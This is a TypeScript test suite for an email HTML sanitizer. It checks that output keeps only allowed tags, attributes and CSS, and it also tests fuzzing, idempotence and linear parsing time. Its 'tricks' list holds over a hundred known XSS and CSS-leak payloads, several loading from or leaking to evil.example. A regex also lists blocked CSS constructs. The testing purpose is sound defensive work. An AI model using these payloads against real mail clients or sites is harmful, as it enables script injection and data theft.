import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { KEPT, VOID } from './elements.ts'
import { MAX_DEPTH, MAX_HTML, MAX_REMOTE, plainToHtml, sanitizeHtml } from './index.ts'

const PROXY = '/mail/picture?u='
const remote = (url: string): string => PROXY + encodeURIComponent(url)
const clean = (html: string, options = {}): string => {
  const out = sanitizeHtml(html, options).html
  assertSafe(out)
  return out.replace(/^<div class="pr-mail">/, '').replace(/<\/div>$/, '')
}

/** What an output must be, character by character: known tags, double-quoted attributes, nothing else that begins with `<`. */
const ATTRIBUTE = / ([a-z]+)="([^"<>]*)"/g
function assertSafe(html: string): void {
  const open: string[] = []
  let rest = html
  let sheet = ''
  rest = rest.replace(
    /^(<div class="pr-mail"(?: style="[^"<>]*")?>)<style>([^<]*)<\/style>/,
    (_all, box: string, css: string) => {
      sheet = css
      return box
    },
  )
  assertCss(sheet)
  for (const [tag, end, name = '', attributes = ''] of rest.matchAll(/<(\/?)([a-z\d]*)([^>]*)>?/g)) {
    assert.ok(tag.endsWith('>') && KEPT.has(name), tag)
    if (end === '/') {
      assert.equal(open.pop(), name, `ends match in ${html.slice(0, 500)}`)
      assert.equal(attributes, '')
      continue
    }
    if (!VOID.has(name)) open.push(name)
    assert.equal(attributes.replace(ATTRIBUTE, ''), '', tag)
    const seen = new Set<string>()
    for (const [, key = '', value = ''] of attributes.matchAll(ATTRIBUTE)) {
      assert.ok(!seen.has(key), `${key} once in ${tag}`)
      seen.add(key)
      assert.ok(!key.startsWith('on') && key !== 'srcset' && key !== 'action', tag)
      if (key === 'href') assert.match(value, /^(?:https?:\/\/|mailto:|tel:|sms:|#m-)/i, tag)
      if (key === 'src' || key === 'background')
        assert.match(
          value,
          /^(?:\/mail\/picture\?u=|\/cid\/|data:image\/(?:png|gif|jpe?g|webp|bmp|avif);base64,[A-Za-z0-9+/=]+$)/i,
          tag,
        )
      if (key === 'style') assertCss(value.replaceAll('&quot;', '"').replaceAll('&amp;', '&'))
    }
  }
  assert.deepEqual(open, [])
  assert.ok(!/<(?!\/?[a-z])/.test(rest), html.slice(0, 500))
}
function assertCss(css: string): void {
  assert.ok(
    !/url\s*\(|expression|@import|@font-face|behavior|-moz-binding|position\s*:|image-set|\\|<|javascript:|src\s*\(|attr\s*\(|var\s*\(/i.test(
      css,
    ),
    css,
  )
}

/** Written from what is publicly known about mail and browser filters; none may leave anything that runs or loads. */
const tricks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script>//<!--\nalert(1)</script>-->',
  '<<script>alert(1)//<</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src="x" onerror\n=alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<img src="&#106;&#97;&#118;&#97;script:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="filesystem:https://x">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="//evil.example" ping="https://evil.example/p">x</a>',
  '<a href="x" onclick=alert(1) onmouseover=alert(1)>x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><set attributeName="onload" to="alert(1)"/></svg>',
  '<svg><feImage href="https://evil.example/leak"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><desc><p><img src=x onerror=alert(1)></p></desc></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><div><template><img src=x onerror=alert(1)></template></div>',
  '<select><style></select><img src=x onerror=alert(1)></style></select>',
  '<select><option><script>alert(1)</script></option></select>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object><embed src="https://evil.example/x.swf">',
  '<object type="text/x-scriptlet" data="https://evil.example/s.html"></object>',
  '<applet code=x codebase=https://evil.example></applet>',
  '<base href="https://evil.example/"><a href="x">y</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<meta http-equiv="Set-Cookie" content="x=y">',
  '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href=//evil.example/p><link rel=dns-prefetch href=//leak.evil.example>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=https://evil.example/x onerror=alert(1)><isindex action=javascript:alert(1)>',
  '<video src=https://evil.example/x><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<video poster=https://evil.example/x.png></video>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1) background="https://evil.example/x.png">',
  '<img srcset="https://evil.example/x 1x" src="">',
  '<picture><source srcset="https://evil.example/x"><img></picture>',
  '<img src="https://evil.example/x.gif" lowsrc="https://evil.example/y" dynsrc="https://evil.example/z">',
  '<table background="https://evil.example/x"><td background="javascript:alert(1)"></table>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<div style="background:url (https://evil.example/x)">x</div>',
  '<div style="background:\\75rl(https://evil.example/x)">x</div>',
  '<div style="background:ur\\l(https://evil.example/x)">x</div>',
  '<div style="background:u/**/rl(https://evil.example/x)">x</div>',
  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
  '<div style="background:-webkit-image-set(url(x) 1x)">x</div>',
  '<div style="list-style:url(https://evil.example/x);content:url(x);cursor:url(x),auto">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="width:exp/*x*/ression(alert(1))">x</div>',
  '<div style="-moz-binding:url(x#y);behavior:url(x)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
  '<div style="font-family:\'a;background:url(https://evil.example/x)\'">x</div>',
  "<div style='font-family:\"a\nb;background:url(x)'>x</div>",
  '<div style="color:var(--x);width:attr(x);background:src(\'x\')">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@im\\port url(https://evil.example/x)</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.example/f)}</style>',
  '<style>@font-face{font-family:x;src:url(x);unicode-range:U+0041}p{font-family:x}</style>',
  '<style>input[value^="a"]{background:url(https://evil.example/a)}</style>',
  '<style>a:visited{background:url(https://evil.example/v)}</style>',
  '<style>p{color:red}</style><img src=x onerror=alert(1)><style>x</style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<style>p{font-family:"</style><img src=x onerror=alert(1)>"}</style>',
  '<style>*{background:url(//evil.example)}@media screen{*{background:url(//evil.example/m)}}</style>',
  '<style>@media (min-width:url(x)){p{color:red}}</style>',
  '<style>@supports (x:y){p{background:url(x)}}@keyframes x{to{background:url(x)}}@namespace url(x);</style>',
  '<style>body{position:fixed}html body::before{content:"x"}</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if gte mso 9]><xml><script>alert(1)</script></xml><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
  '</br style=a:expression(alert(1))>',
  '</p onclick=alert(1)>x',
  '<x onclick=alert(1)>x</x><custom-element onclick=alert(1)>',
  '<a\x00href="javascript:alert(1)">x</a>',
  '<a href="https://x" href="javascript:alert(1)">x</a>',
  '<a href="https://user:pass@evil.example/">bank</a>',
  "<p title='\"><script>alert(1)</script>'>x</p>",
  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
  '<p title="`$alert(1)`" class="x&quot; onclick=&quot;alert(1)" id="x y" lang="en\'onclick=1">x</p>',
  '<table><tr><td></table></table></div></div></body></html><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:image/png;base64,AAAA\'onerror=alert(1)">',
  '<img src="cid:x&quot; onerror=&quot;alert(1)">',
  '<a href="https://x/&quot;onclick=alert(1)//">x</a>',
  '<p dir="ltr&quot;>" align="left;x" width=1>x</p>',
  '<font color="red;background:url(x)" face="x;url(x)" size=9999>x</font>',
  '<td colspan=99999999999 rowspan=-1>x</td>',
]

test('public tricks of XSS and of CSS leaks: nothing runs, nothing loads, whatever is wrapped around them', () => {
  const options = [{}, { remote, cid: () => '/cid/1' }, { styles: false }, { pictures: false }]
  for (const trick of tricks)
    for (const around of [
      '',
      '<div>',
      '<table><tr><td>',
      '<p title="',
      '<style>',
      '<!-- ',
      '<svg>',
      '<select>',
      '<textarea>',
      '<b><i><a href=x>',
    ])
      for (const one of options) assertSafe(sanitizeHtml(around + trick, one).html)
})

test('no piece of any two tricks makes a third', () => {
  const pieces = [
    ...tricks,
    '<',
    '>',
    '"',
    "'",
    '`',
    '&',
    '</',
    '<!--',
    '-->',
    '\0',
    '\n',
    'x=',
    '<style>',
    '</style>',
    '</script>',
    '{',
    '}',
    'url(',
    '\\',
    '/*',
    '*/',
  ]
  const piece = fc
    .tuple(fc.constantFrom(...pieces), fc.nat(60), fc.nat(60))
    .map(([text, from, length]) => text.slice(from % (text.length + 1), (from % (text.length + 1)) + length))
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 12 }), fc.boolean(), (parts, styles) => {
      assertSafe(sanitizeHtml(parts.join(''), { styles, remote }).html)
    }),
    { numRuns: 3_000 },
  )
})

test('cleaning what is clean changes nothing more', () => {
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...tricks, '<p>a', '<b>b', '</b>', '<ul><li>c', '<td>', 'text &amp; &lt;'), {
        maxLength: 8,
      }),
      (parts) => {
        const once = sanitizeHtml(parts.join(''), { styles: false, pictures: false }).html
        const twice = sanitizeHtml(once, { styles: false, pictures: false }).html
        const names = /m-|pr-mail/
        if (!names.test(once.slice(25)))
          assert.equal(
            twice
              .replace('<div class="pr-mail"><div class="m-pr-mail">', '<div class="pr-mail">')
              .replace(/<\/div><\/div>$/, '</div>'),
            once,
          )
      },
    ),
    { numRuns: 500 },
  )
})

test('what a mail needs stays: text, tables, lists, styles, links', () => {
  assert.equal(
    clean('<p align=center>Hello <b>you</b> &amp; me</p>'),
    '<p align="center">Hello <b>you</b> &amp; me</p>',
  )
  assert.equal(
    clean('<table border=0 width="100%" bgcolor=#fff><tr><td colspan=2 valign=top>x<td>y</table>'),
    '<table border="0" width="100%" bgcolor="#fff"><tr><td colspan="2" valign="top">x</td><td>y</td></tr></table>',
  )
  assert.equal(clean('<ul><li>a<li>b</ul>'), '<ul><li>a</li><li>b</li></ul>')
  assert.equal(clean('<p>a<p>b'), '<p>a</p><p>b</p>')
  assert.equal(
    clean('<div style="color: red; background-color: #eee; margin:0 auto">x</div>'),
    '<div style="color:red;background-color:#eee;margin:0 auto">x</div>',
  )
  assert.equal(
    clean('<a href="https://example.com/?a=1&copy=2&amp;b=3" onclick=x>y</a>'),
    '<a href="https://example.com/?a=1&amp;copy=2&amp;b=3" target="_blank" rel="noopener noreferrer nofollow">y</a>',
  )
  assert.equal(clean('<a href="#part">x</a><a name=part></a>'), '<a href="#m-part">x</a><a name="m-part"></a>')
  assert.equal(clean('1 < 2 && 3 > 2 <3'), '1 &lt; 2 && 3 &gt; 2 &lt;3')
  assert.equal(clean('<o:p>x</o:p><st1:place>y</st1:place>'), 'xy')
  assert.equal(clean('<b>x</i></b></b></td>y'), '<b>x</b>y')
  assert.equal(clean('<td><p>x</table>y'), '<td><p>xy</p></td>', 'an end that is not there ends nothing')
})

test('style sheets reach only the mail, and only by allowed rules', () => {
  const style = (css: string): string =>
    /<style>([\s\S]*)<\/style>/.exec(sanitizeHtml(`<style>${css}</style>`).html)?.[1] ?? ''
  assert.equal(
    style('.a, p > .b:hover { color: red; position: fixed }'),
    '.pr-mail .m-a,.pr-mail p > .m-b:hover{color:red}',
  )
  assert.equal(
    style('body{margin:0}html body p{color:red}body.dark #x{color:#fff}'),
    '.pr-mail{margin:0}\n.pr-mail p{color:red}\n.pr-mail.m-dark #m-x{color:#fff}',
  )
  assert.equal(
    style('@media only screen and (max-width:600px){.w{width:100%!important}}'),
    '@media only screen and (max-width:600px){.pr-mail .m-w{width:100%!important}}',
  )
  assert.equal(style('@charset "utf-8";@import url(x);p{color:red}'), '.pr-mail p{color:red}')
  assert.equal(style('<!-- p{color:red} -->'), '.pr-mail p{color:red}')
  assert.equal(style('p{color:red'), '.pr-mail p{color:red}', 'without an end')
})

test('remote pictures are blocked and counted, or come from our own address', () => {
  const mail =
    '<img src="http://example.com/a.png" alt="A" width=10><img src="//example.com/b.gif"><td background="https://example.com/c.png">'
  const blocked = sanitizeHtml(mail)
  assertSafe(blocked.html)
  assert.deepEqual([blocked.remote, blocked.blocked], [3, 3])
  assert.ok(!blocked.html.includes('example.com'))
  assert.match(blocked.html, /<img alt="A" width="10" class="pr-blocked">/)
  const shown = sanitizeHtml(mail, { remote })
  assertSafe(shown.html)
  assert.deepEqual([shown.remote, shown.blocked], [3, 0])
  assert.match(shown.html, /src="\/mail\/picture\?u=https%3A%2F%2Fexample.com%2Fb.gif"/)
})

test('pictures of the mail itself', () => {
  const cid = (id: string): string | undefined => (id === 'logo@x' ? '/cid/7' : undefined)
  assert.equal(clean('<img src="cid:logo%40x">', { cid }), '<img alt="" src="/cid/7">')
  assert.equal(clean('<img src="cid:none">', { cid }), '')
  assert.match(clean('<img src="data:image/png;base64,AAAA">'), /src="data:image\/png;base64,AAAA"/)
  assert.equal(clean('<img alt="Logo" src="cid:x">', { pictures: false }), '[Logo]')
})

test('the history of earlier mails is marked', () => {
  for (const html of [
    '<blockquote type="cite">x</blockquote>',
    '<div class="gmail_quote">x</div>',
    '<div id="divRplyFwdMsg">x</div>',
    '<div style="border:none;border-top:solid #E1E1E1 1.0pt">x</div>',
    '<div class="x yahoo_quoted y">x</div>',
  ]) {
    const result = sanitizeHtml(html)
    assert.ok(result.quoted, html)
    assert.match(result.html, /class="[^"]*pr-quote"/)
  }
  assert.ok(!sanitizeHtml('<div class="quote">x</div>').quoted)
})

test('limits: depth, pictures, length; said in `cut`, never an error', () => {
  const deep = sanitizeHtml(`${'<div>'.repeat(5_000)}x`)
  assert.ok(deep.cut && deep.html.includes('x'))
  assert.equal(deep.html.split('<div').length - 1, MAX_DEPTH + 1)
  assert.ok(sanitizeHtml('<img src=http://x/y>'.repeat(MAX_REMOTE + 1)).cut)
  assert.ok(sanitizeHtml('x'.repeat(MAX_HTML + 1)).cut)
  assert.equal(clean(`<p ${Array.from({ length: 1_000 }, (_, n) => `a${n}=b `).join('')}align=left>x</p>`), '<p>x</p>')
})

test('hostile input costs linear time: 50 ms a MB', () => {
  const MB = 1024 * 1024
  const fill = (text: string): string => text.repeat(Math.ceil(MB / text.length))
  for (const [name, html] of [
    [
      'a newsletter',
      fill(
        '<table width=100%><tr><td style="color:#333;font-family:Arial,sans-serif" class="a b"><p>Hello <a href="https://example.com/x?y=1&amp;z=2">you</a><br>&nbsp;</td></tr></table>\n',
      ),
    ],
    ['open tags', fill('<b>')],
    ['closing tags', `${'<b>'.repeat(127)}${fill('</i>')}`],
    ['cells and ends', `<p><b><table><tr><td>${'<i>'.repeat(120)}${fill('</b>')}`],
    ['less-than signs', fill('<')],
    ['open comments', fill('<!--')],
    ['comment ends', `<!--${fill('--')}`],
    ['style starts', fill('<style>')],
    ['style blocks', fill('<style>a{}</style>')],
    ['svg in svg', fill('<svg>')],
    ['svg ends', fill('<svg></svg>')],
    ['raw in dropped', `<select>${fill('<style>')}`],
    ['attributes', `<p ${fill('a=b ')}>`],
    ['an open quote', fill('<a title="')],
    ['references', fill('&lt;')],
    ['list items', fill('<li>')],
    ['rules', `<style>${fill('a{b:c}')}</style>`],
    ['brackets', `<style>${fill('a{')}</style>`],
    ['declarations', fill('<p style="a:b;color:red;;;;">')],
  ] as const) {
    const best = Math.min(
      ...[1, 2, 3].map(() => {
        const began = performance.now()
        sanitizeHtml(html)
        return performance.now() - began
      }),
    )
    assert.ok(best < 150, `${name}: ${Math.round(best)} ms for a MB`)
    if (process.env.SHOW === '1') console.log(name, Math.round(best))
  }
})

test('plain text: links found, quotes and signature marked, everything else escaped', () => {
  const { html, quoted } = plainToHtml(
    'See https://example.com/a_(b), www.example.org. or bob@example.com!\n> old\n> > older\nnew <b>\n-- \nBob',
  )
  assert.ok(quoted)
  assert.match(html, /href="https:\/\/example.com\/a_\(b\)"/)
  assert.match(html, /<a href="https:\/\/www.example.org" [^>]*>www.example.org<\/a>\. or/)
  assert.match(html, /href="mailto:bob@example.com"/)
  assert.match(
    html,
    /<blockquote class="pr-quote">old\n<blockquote class="pr-quote">older\n<\/blockquote><\/blockquote>new &lt;b&gt;/,
  )
  assert.match(html, /<div class="pr-signature">-- \nBob\n<\/div>/)
  fc.assert(
    fc.property(
      fc.string({
        unit: fc.constantFrom('>', ' ', '\n', 'h', 'https://', 'www.', '@', '.', '<', '"', '&', 'a', '-- '),
      }),
      (text) => {
        assertSafe(plainToHtml(text).html.replace('class="pr-mail pr-plain"', 'class="pr-mail"'))
      },
    ),
    { numRuns: 500 },
  )
  for (const text of ['>', 'a@', 'www.', 'https://', '<', 'a@b.', '((((']) {
    const began = performance.now()
    plainToHtml(text.repeat(Math.ceil((1024 * 1024) / text.length)))
    assert.ok(performance.now() - began < 1_000, text)
  }
})
